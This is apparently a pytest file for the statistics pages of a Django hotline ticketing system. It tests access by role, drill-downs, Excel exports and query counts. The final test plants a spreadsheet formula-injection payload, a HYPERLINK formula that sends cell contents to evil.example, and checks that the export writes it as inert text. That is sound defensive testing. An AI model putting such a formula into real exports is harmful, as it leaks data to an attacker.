"""The statistics pages: who may read them, what they show, drill-downs, exports, queries."""

from __future__ import annotations

import io
import re
from html import unescape
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.staticfiles import finders
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from minsheng.org.models import Role, User
from minsheng.stats import views
from minsheng.stats.views import TABS
from minsheng.tickets.models import Ticket
from tests.conftest import PASSWORD, People, make_user
from tests.stats.helpers import Story, at, refresh_all

JUNE = {"period": "month", "date": "2025-06-01"}
PAGES = [name for name, _label in TABS]
# Pinned query counts of each page (login session and user included). They do not grow with
# the number of tickets: pages read the rollups, a handful of grouped queries each.
MAX_QUERIES = {
    "stats:overview": 13,
    "stats:units": 10,
    "stats:areas": 13,
    "stats:categories": 10,
    "stats:channels": 10,
    "stats:trend": 9,
    "stats:report": 22,  # its hot issues read the board's likes (public support): one query
    "stats:tickets": 9,
}


def client_for(user: User) -> Client:
    c = Client()
    assert c.login(username=user.username, password=PASSWORD)
    return c


def links(html: str, pattern: str) -> list[str]:
    return [unescape(h) for h in re.findall(r'href="([^"]*)"', html) if re.search(pattern, h)]


@pytest.mark.parametrize("name", [*PAGES, "stats:tickets"])
def test_every_page_renders_for_a_leader(june: Story, people: People, name: str) -> None:
    response = client_for(people.org.leader).get(reverse(name), JUNE)
    assert response.status_code == 200
    html = response.content.decode()
    assert "2025年6月" in html
    assert 'href="/static/css/minsheng.css"' in html or "minsheng.css" in html  # base.html


@pytest.mark.parametrize(
    "role", [Role.LEADER, Role.SUPERVISOR, Role.DISPATCHER, Role.ADMINISTRATOR]
)
def test_hotline_readers_see_figures_and_the_navigation_entry(people: People, role: str) -> None:
    user = make_user(f"reader-{role}", people.org.hotline, role)
    c = client_for(user)
    assert c.get(reverse("stats:overview")).status_code == 200
    home = c.get(reverse("home")).content.decode()
    assert f'href="{reverse("stats:overview")}"' in home and "统计" in home


@pytest.mark.parametrize("role", [Role.HANDLER, Role.OPERATOR])
def test_handlers_and_operators_are_refused_and_see_no_entry(people: People, role: str) -> None:
    user = make_user(f"not-reader-{role}", people.org.sunkou, role)
    c = client_for(user)
    for name in [*PAGES, "stats:tickets"]:
        assert c.get(reverse(name)).status_code == 403
    assert f'href="{reverse("stats:overview")}"' not in c.get(reverse("home")).content.decode()


def test_anonymous_visitors_are_sent_to_log_in() -> None:
    response = Client().get(reverse("stats:units"))
    assert response.status_code == 302
    assert reverse("login") in response["Location"]


def test_the_ranking_numbers_only_units_with_a_score(june: Story, people: People) -> None:
    html = client_for(people.org.leader).get(reverse("stats:units"), JUNE).content.decode()
    ranks = re.findall(
        r'<tr><td class="num">(\d*)</td><th scope="row">(?:<a [^>]*>)?([^<]+)<', html
    )
    assert ranks == [("1", "孙口镇人民政府"), ("", "侯庙镇人民政府"), ("", "热线直接办理及未派单")]


def test_a_unit_leader_reads_their_own_subtree_only(june: Story, people: People) -> None:
    boss = make_user("boss-sunkou", people.org.sunkou, Role.UNIT_LEADER)
    c = client_for(boss)
    assert f'href="{reverse("stats:overview")}"' in c.get(reverse("home")).content.decode()
    html = c.get(reverse("stats:units"), JUNE).content.decode()
    assert "孙口镇执法大队农村一中队" in html  # its child is ranked
    assert "侯庙镇人民政府" not in html
    assert c.get(reverse("stats:units"), {**JUNE, "unit": "sunkou-nc1"}).status_code == 200
    assert c.get(reverse("stats:units"), {**JUNE, "unit": "houmiao"}).status_code == 404
    assert c.get(reverse("stats:tickets"), {**JUNE, "unit": "houmiao"}).status_code == 404
    # The drill-down lists only what the unit may see.
    drilled = c.get(reverse("stats:tickets"), {**JUNE, "m": "received"}).content.decode()
    assert drilled.count('data-number="') == 2


def test_bad_input_is_explained_in_chinese_never_a_500(june: Story, people: People) -> None:
    c = client_for(people.org.leader)
    response = c.get(
        reverse("stats:units"),
        {
            "period": "fortnight",
            "date": "2025-13-01",
            "division": "99",
            "category": "abc",
            "channel": "pigeon",
            "kind": "x",
        },
    )
    assert response.status_code == 200
    html = response.content.decode()
    for message in ("统计周期无效", "日期格式应为", "地点（区划代码）不存在", "诉求分类不存在"):
        assert message in html
    assert c.get(reverse("stats:units"), {"unit": "nope"}).status_code == 404
    custom = c.get(
        reverse("stats:overview"), {"period": "custom", "from": "2025-06-30", "to": "2025-06-01"}
    )
    assert custom.status_code == 200 and "截止日期早于起始日期" in custom.content.decode()
    drill = c.get(reverse("stats:tickets"), {**JUNE, "m": "bogus", "page": "x"})
    assert drill.status_code == 200 and "统计项无效" in drill.content.decode()


def test_every_figure_drills_down_to_its_tickets(june: Story, people: People) -> None:
    c = client_for(people.org.leader)
    html = c.get(reverse("stats:units"), JUNE).content.decode()
    drills = links(html, r"^/stats/tickets/\?")
    assert drills
    # 孙口镇's 受理量 in June: the two tickets it handled.
    received = next(h for h in drills if "unit=sunkou" in h and "m=received" in h)
    listed = c.get(received).content.decode()
    numbers = re.findall(r'data-number="(\d+)"', listed)
    assert len(numbers) == 2
    sunkou_june = Ticket.objects.filter(
        lead_unit=people.org.sunkou,
        created_at__gte=at(2025, 6, 1, 0),
        created_at__lt=at(2025, 7, 1, 0),
    )
    assert set(numbers) == set(sunkou_june.values_list("number", flat=True))
    for number in numbers:  # each row links to the ticket's page
        assert f'href="{reverse("tickets:detail", args=[number])}"' in listed
    # 解决量: the one whose callback said resolved; and 不满意 one click away from it.
    resolved = c.get(next(h for h in drills if "unit=sunkou" in h and "m=resolved" in h))
    assert len(re.findall(r'data-number="', resolved.content.decode())) == 1
    unsatisfied = {**JUNE, "unit": "sunkou", "m": "cb_unsatisfied"}
    listed = c.get(reverse("stats:tickets"), unsatisfied).content.decode()
    assert len(re.findall(r'data-number="', listed)) == 1
    # Every page's figures link to the drill-down.
    for name in PAGES:
        page = c.get(reverse(name), JUNE).content.decode()
        assert links(page, r"^/stats/tickets/\?"), name


@pytest.mark.parametrize("name", [*PAGES, "stats:tickets"])
def test_every_table_exports_to_excel(june: Story, people: People, name: str) -> None:
    response = client_for(people.org.leader).get(reverse(name), {**JUNE, "format": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames
    assert any(
        cell.value is not None
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
    )


def test_the_units_export_has_the_numbers_of_the_page(june: Story, people: People) -> None:
    c = client_for(people.org.leader)
    book = load_workbook(
        io.BytesIO(c.get(reverse("stats:units"), {**JUNE, "format": "xlsx"}).content)
    )
    sheet = book.worksheets[0]
    header = [cell.value for cell in sheet[3]]
    rows = {
        row[0]: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(4, values_only=True)
    }
    sunkou = rows["孙口镇人民政府"]
    assert sunkou["受理量"] == 2
    assert sunkou["解决率（%）"] == 50.0
    assert sunkou["满意率（%）"] == 50.0
    assert rows["侯庙镇人民政府"]["受理量"] == 1


@pytest.mark.parametrize("name", [*PAGES, "stats:tickets"])
def test_page_queries_are_pinned(
    june: Story,
    people: People,
    name: str,
    django_assert_max_num_queries,  # type: ignore[no-untyped-def]
) -> None:
    c = client_for(people.org.leader)
    with django_assert_max_num_queries(MAX_QUERIES[name]):
        assert c.get(reverse(name), JUNE).status_code == 200


def test_query_counts_do_not_grow_with_the_tickets(
    june: Story,
    people: People,
    django_assert_max_num_queries,  # type: ignore[no-untyped-def]
) -> None:
    for day in range(9, 19):
        june.handled(
            at(2025, 6, day, 9),
            lead=("sunkou", "houmiao")[day % 2],
            actor=(people.alice, people.bob)[day % 2],
        )
    refresh_all()
    c = client_for(people.org.leader)
    for name in PAGES:
        with django_assert_max_num_queries(MAX_QUERIES[name]):
            assert c.get(reverse(name), JUNE).status_code == 200


def test_pages_show_their_tables_without_echarts(
    june: Story, people: People, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(views, "charts_available", lambda: False)
    html = client_for(people.org.leader).get(reverse("stats:units"), JUNE).content.decode()
    assert "echarts.min.js" not in html
    assert 'id="table-units"' in html and "孙口镇人民政府" in html


@pytest.mark.skipif(
    not (Path(settings.BASE_DIR) / "node_modules" / "echarts" / "dist").is_dir(),
    reason="ECharts not installed: run `make install` (npm ci)",
)
def test_echarts_is_served_locally_when_installed(june: Story, people: People) -> None:
    assert finders.find("vendor/echarts/echarts.min.js")
    html = client_for(people.org.leader).get(reverse("stats:units"), JUNE).content.decode()
    assert "/static/vendor/echarts/echarts.min.js" in html
    assert 'data-chart="chart-units"' in html
    assert "http://" not in html and "https://" not in html  # nothing from a CDN


def test_the_monthly_report_prints(june: Story, people: People) -> None:
    c = client_for(people.org.leader)
    html = c.get(reverse("stats:report"), {"month": "2025-06"}).content.decode()
    assert "2025年6月接诉即办工作月度报告" in html
    for title in ("主要指标", "单位综合排名", "诉求分类前十", "超期较多的单位"):
        assert title in html
    assert "data-print" in html  # the print button, wired by stats/charts.js (no inline script)
    # The summary reads the rates (not a count of the same name): June's two 孙口镇 tickets
    # were contacted on time, one of two callbacks resolved and satisfied.
    summary = re.sub(r"\s+", "", re.search(r'class="report-summary">(.*?)</p>', html, re.S)[1])
    assert "共受理群众诉求4件，办结并解决1件。" in summary
    assert "响应率100.0%，解决率50.0%，满意率50.0%。" in summary
    css = finders.find("stats/stats.css")
    assert css and "@media print" in Path(css).read_text(encoding="utf-8")


def test_the_drill_down_export_writes_a_planted_formula_as_text(
    june: Story, people: People
) -> None:
    planted = '=HYPERLINK("http://evil.example/?"&D4&E4,"详情")'
    Ticket.objects.filter(pk=Ticket.objects.order_by("pk").values("pk")[:1]).update(title=planted)
    response = client_for(people.org.leader).get(
        reverse("stats:tickets"), {**JUNE, "m": "received", "format": "xlsx"}
    )
    book = load_workbook(io.BytesIO(response.content))
    kinds = {c.value: c.data_type for row in book.worksheets[0].iter_rows() for c in row}
    assert kinds[planted] == "s"
    assert "f" not in kinds.values()
